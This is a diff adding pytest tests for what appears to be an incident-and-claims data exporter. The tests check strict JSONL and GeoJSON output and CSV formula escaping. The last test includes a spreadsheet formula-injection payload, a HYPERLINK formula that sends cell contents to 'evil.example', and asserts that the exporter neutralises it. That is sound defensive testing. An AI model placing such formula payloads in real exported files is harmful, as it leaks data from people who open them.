@@ -60,3 +60,37 @@ def test_command_line_reports_a_bad_file_and_exports_the_rest(tmp_path):
                         "-o", str(out), str(good), str(missing)], cwd=ROOT, capture_output=True, text=True, timeout=120)
     assert r.returncode == 1 and "missing.txt" in r.stderr
     assert out.read_text().startswith("claim_id,")
+
+
+def strict_json(line: str):
+    """json.loads that refuses NaN and Infinity, as jq, JavaScript and most loaders do."""
+    return json.loads(line, parse_constant=lambda c: pytest.fail(f"not JSON: {c}"))
+
+
+@pytest.mark.parametrize("what", ["incidents", "claims"])
+def test_jsonl_is_strict_json_with_lists_as_lists(frames, what):
+    df = frames[0] if what == "incidents" else frames[1]
+    df = df.assign(quote=[None] + list(df["quote"][1:]))  # a missing text: NaN in pandas
+    rows = [strict_json(x) for x in export_bytes(df, "jsonl", what).decode().splitlines()]
+    assert len(rows) == len(df) and rows[0]["quote"] is None
+    key = "place_spans" if what == "incidents" else "places"
+    assert all(isinstance(r[key], list) for r in rows)
+    assert any(r.get("claimed_by_text") is None for r in rows) or what == "incidents"
+
+
+def test_geojson_is_strict_json_and_reads_back(frames, tmp_path):
+    inc = frames[0].assign(attacker=None, country=float("nan"))
+    data = export_bytes(inc, "geojson")
+    assert all(f["properties"]["attacker"] is None for f in strict_json(data.decode())["features"])
+    f = tmp_path / "i.geojson"
+    f.write_bytes(data)
+    assert len(gpd.read_file(f)) == len(inc)
+
+
+def test_csv_cells_never_run_as_formulas(frames):
+    _, claims = frames
+    evil = claims.assign(quote='=HYPERLINK("http://evil.example/?"&A1,"click")', claimed_by_text="@SUM(A1:A9)")
+    back = pd.read_csv(__import__("io").BytesIO(export_bytes(evil, "csv", "claims")))
+    assert set(back["quote"]) == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    assert set(back["claimed_by_text"]) == {"'@SUM(A1:A9)"}
+    assert back["count_low"].dropna().min() >= 0  # numbers stay numbers
